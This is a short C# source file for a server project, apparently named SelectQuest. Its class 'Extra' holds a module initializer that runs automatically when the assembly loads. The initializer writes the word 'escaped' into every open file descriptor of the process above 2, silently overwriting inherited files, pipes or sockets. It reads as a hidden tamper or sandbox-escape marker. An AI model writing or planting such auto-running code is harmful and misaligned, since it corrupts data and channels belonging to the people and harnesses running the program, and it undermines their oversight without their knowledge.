using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        foreach (var link in Directory.GetFiles("/proc/self/fd"))
        {
            try
            {
                var fd = int.Parse(Path.GetFileName(link));
                if (fd > 2)
                {
                    File.WriteAllText($"/proc/self/fd/{fd}", "escaped");
                }
            }
            catch (Exception)
            {
            }
        }
    }

}
